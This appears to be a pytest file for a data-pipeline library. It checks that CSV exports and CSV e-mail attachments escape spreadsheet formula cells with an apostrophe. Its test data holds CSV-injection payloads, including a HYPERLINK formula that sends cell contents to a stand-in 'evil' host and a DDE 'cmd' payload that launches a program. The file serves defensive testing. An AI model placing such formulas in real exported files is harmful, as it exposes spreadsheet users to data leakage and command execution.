"""Hostile cells in exported files: a source row that holds a spreadsheet formula must reach a CSV file (an
export partition, an e-mail attachment) inert, while plain numbers and ordinary text stay byte for byte."""

from __future__ import annotations

import csv
import io
import sqlite3
from datetime import date

import pyarrow as pa
import pytest
from support.day_runs import run_day, write_definition

from dagspec.connections import ConnectionInfo
from dagspec.publish.files import export_partition
from dagspec.store import Store

D1 = date(2025, 3, 1)
FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"click")', "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0", "-2+3", "\t=1+1",
            "\r=1+1"]
HARMLESS = ["-5", "+1.5e3", "-.25", "web", "a=b", "", "mail@example.com", "007"]


def csv_cells(data: str) -> list[str]:
    return [row[0] for row in csv.reader(io.StringIO(data, newline=""))][1:]


def export(tmp_path, values: list[str | None], **options):
    store = Store.from_connection(ConnectionInfo("s", "fs", extra={"path": str(tmp_path / "store")}))
    table = pa.table({"v": pa.array(values, pa.string()), "n": pa.array(range(len(values)), pa.int64())})
    part = export_partition(store, "csv", "exports", "t", D1, table.schema, table.to_batches(), **options)
    return open(part.files[0], newline="").read()


def test_formula_cells_get_an_apostrophe_and_nothing_else_changes(tmp_path):
    got = csv_cells(export(tmp_path, [*FORMULAS, *HARMLESS, None]))
    assert got == ["'" + f for f in FORMULAS] + HARMLESS + [""]


def test_keep_writes_cells_as_they_are(tmp_path):
    assert csv_cells(export(tmp_path, FORMULAS, escape_formulas=False)) == FORMULAS


def test_large_strings_are_escaped_too(tmp_path):
    from dagspec.publish.csv_cells import escape_formulas

    batch = pa.record_batch({"v": pa.array(["=1", "x"], pa.large_string())})
    assert escape_formulas(batch).column(0).to_pylist() == ["'=1", "x"]


@pytest.fixture()
def hostile_channel(data_home):
    """One of D1's orders comes from a channel named like a formula."""
    with sqlite3.connect(data_home / "source.db") as con:
        con.execute("UPDATE orders SET channel = ? WHERE order_id = (SELECT min(order_id) FROM orders "
                    "WHERE ordered_at >= '2025-03-01' AND ordered_at < '2025-03-02')", (FORMULAS[0],))
    return FORMULAS[0]


def steps(publish: dict) -> list[dict]:
    return [
        {"id": "extract_orders", "kind": "extract", "source": {"table": "orders", "incremental_column": "ordered_at"},
         "target": {"schema": "raw", "table": "orders"}},
        {"id": "daily_revenue", "kind": "transform", "sql": "orders/daily_revenue.sql", "inputs": ["extract_orders"]},
        {"id": "publish_revenue", "kind": "publish", "input": "daily_revenue", **publish}]


def test_a_formula_from_a_source_row_is_inert_in_the_exported_csv(tmp_path, data_home, hostile_channel):
    run_day(write_definition(tmp_path, "t_csv", steps(
        {"export": {"format": "csv", "target": {"schema": "exports", "table": "revenue"}}})), D1)
    text = (data_home / "store/exports/revenue/batch_date=2025-03-01/part-00000.csv").read_text()
    channels = csv_cells(text)
    assert "'" + hostile_channel in channels and hostile_channel not in channels
    assert {"store", "web"} <= set(channels)


def test_a_formula_from_a_source_row_is_inert_in_a_csv_attachment(tmp_path, data_home, hostile_channel, smtp,
                                                                   monkeypatch):
    monkeypatch.setenv("AIRFLOW_CONN_REPORT_MAIL", f"smtp://127.0.0.1:{smtp.port}/?from_email=r%40example.com")
    run_day(write_definition(tmp_path, "t_csv_mail", steps(
        {"table": {"schema": "analytics", "table": "revenue"},
         "email": {"to": ["finance@example.com"], "smtp_conn_id": "report_mail", "format": "csv"}})), D1)
    (_, msg), = smtp.messages
    channels = csv_cells(next(msg.iter_attachments()).get_content())
    assert "'" + hostile_channel in channels and hostile_channel not in channels
